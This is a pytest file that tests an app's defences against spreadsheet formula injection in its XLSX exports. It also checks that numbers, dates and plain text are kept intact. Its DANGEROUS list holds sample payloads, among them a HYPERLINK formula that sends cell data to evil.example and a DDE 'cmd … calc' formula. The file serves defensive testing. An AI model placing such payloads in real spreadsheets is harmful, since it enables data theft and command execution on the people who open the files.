"""Formula injection (issue 10, point 4): text a spreadsheet would run is defused in every
XLSX the app hands out, numbers stay numbers, and no cell text can break the file."""

from __future__ import annotations

import datetime as dt
import io
import re
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tonghu.web.exports import safe_cell, safe_text, xlsx_bytes

DANGEROUS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "+86 138 0000 0000",
    "-2+3",
    "-1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1+1",
    "－2+3",
    "＠SUM(A1)",
]


def _as_read(text: str) -> str:
    """Text as it reads back: XML turns CRLF and a lone CR into LF."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def _read_back(content: bytes, sheet: str = "表") -> list[list[Any]]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [list(row) for row in book[sheet].iter_rows()]


@pytest.mark.parametrize("text", DANGEROUS)
def test_formula_looking_text_is_inert_in_cells_and_headers(text: str) -> None:
    content = xlsx_bytes([("表", [text, "正常表头"], [[text, "正常"], ["正常", text]])])
    rows = _read_back(content)
    cells = [rows[0][0], rows[1][0], rows[2][1]]
    for cell in cells:
        assert cell.data_type != "f", cell.value
        assert cell.value == _as_read("'" + text), cell.value
        assert isinstance(cell.value, str)
        assert cell.value.startswith("'")
    assert rows[1][1].value == "正常"


@pytest.mark.parametrize(
    "value",
    [-5, -0.5, -1e-9, Decimal("-12.50"), 0, 3, 2.5, -(10**12)],
)
def test_numbers_stay_numbers_negative_ones_too(value: object) -> None:
    assert safe_cell(value) is value
    (row,) = _read_back(xlsx_bytes([("表", ["数"], [[value]])]))[1:]
    assert row[0].data_type == "n"
    assert row[0].value == pytest.approx(float(value))  # type: ignore[arg-type]


def test_dates_booleans_and_empty_cells_are_left_alone() -> None:
    day = dt.date(2025, 6, 30)
    assert safe_cell(day) is day
    assert safe_cell(None) is None
    assert safe_cell(True) is True
    (row,) = _read_back(xlsx_bytes([("表", ["日期", "是否", "空"], [[day, True, None]])]))[1:]
    assert row[0].value.date() == day
    assert row[1].value is True
    assert row[2].value is None


@pytest.mark.parametrize(
    "text",
    ["张三", "'=already quoted", "1+1=2", "a=b", "中-划线", " =leading space", "备注：-无"],
)
def test_ordinary_text_is_unchanged(text: str) -> None:
    assert safe_cell(text) == text
    (row,) = _read_back(xlsx_bytes([("表", ["文本"], [[text]])]))[1:]
    assert row[0].value == text


def test_control_characters_do_not_break_the_workbook() -> None:
    """openpyxl refuses them (the import report of a feed with such a cell was a 500)."""
    text = "张\x00三\x01\x1b\x1f"
    assert safe_text(text) == "张\ufffd三\ufffd\ufffd\ufffd"
    (row,) = _read_back(xlsx_bytes([("表", ["名\x02字"], [[text, "=\x01cmd"]])]))[1:]
    assert row[0].value == "张\ufffd三\ufffd\ufffd\ufffd"
    assert row[1].value == "'=\ufffdcmd"
    assert row[1].data_type == "s"


@settings(max_examples=60, deadline=None, derandomize=True, database=None)
@given(
    cells=st.lists(
        st.one_of(
            st.text(max_size=30),
            st.sampled_from(DANGEROUS).flatmap(lambda t: st.text(max_size=5).map(t.__add__)),
            st.integers(min_value=-(10**15), max_value=10**15),
            st.floats(allow_nan=False, allow_infinity=False, min_value=-1e15, max_value=1e15),
        ),
        min_size=1,
        max_size=8,
    )
)
def test_no_cell_of_any_text_is_a_formula_or_breaks_the_file(cells: list[object]) -> None:
    header = [f"列{n}" for n in range(len(cells))]
    (row,) = _read_back(xlsx_bytes([("表", header, [cells])]))[1:]
    for cell, value in zip(row, cells, strict=True):
        assert cell.data_type != "f"
        if isinstance(value, str):
            assert cell.value == (_as_read(safe_text(value)) or None)
            assert not str(cell.value or "").startswith(
                ("=", "+", "-", "@", "＝", "＋", "－", "＠")
            )
        else:
            assert cell.data_type == "n"
            assert cell.value == pytest.approx(value)


# --- every export goes through safe_cell -----------------------------------------------------

ROOT = Path(__file__).resolve().parents[3]
# Files that write spreadsheets or CSV but not for people to open: feed files the batch reads
# back, synthetic test data, and the round's contract export (feeds.md §6, read by machines;
# its values are kept exactly as the contract defines them).
NOT_DOWNLOADS = {
    "tonghu/visits/feed.py": "visits written as feed files for the batch to read",
    "tonghu/synth/writers.py": "synthetic feed files",
    "tonghu/synth/__init__.py": "synthetic truth files",
    "tonghu/synth/merge.py": "synthetic feed files",
    "tonghu/synth/emit.py": "synthetic feed files",
    "tonghu/pipeline/export.py": "the contract's CSV export, written by DuckDB",
}
WRITERS = re.compile(r"\bWorkbook\(|csv\.writer\(|csv\.DictWriter\(|FORMAT csv|xlsxwriter")


def test_every_spreadsheet_the_app_writes_goes_through_safe_cell() -> None:
    """An audit kept as a test: a module that builds a workbook or writes CSV either defuses
    its cells with safe_cell (directly or through xlsx_bytes) or is one of the listed files
    whose output no person opens as a download."""
    unguarded = []
    for path in sorted((ROOT / "tonghu").rglob("*.py")):
        relative = path.relative_to(ROOT).as_posix()
        if "/tests/" in relative or relative == "tonghu/web/exports.py":
            continue
        source = path.read_text(encoding="utf-8")
        if not WRITERS.search(source) or relative in NOT_DOWNLOADS:
            continue
        if "safe_cell" not in source and "xlsx_bytes" not in source:
            unguarded.append(relative)
    assert unguarded == []
    for relative in NOT_DOWNLOADS:
        assert (ROOT / relative).exists(), f"{relative} moved: update the list"
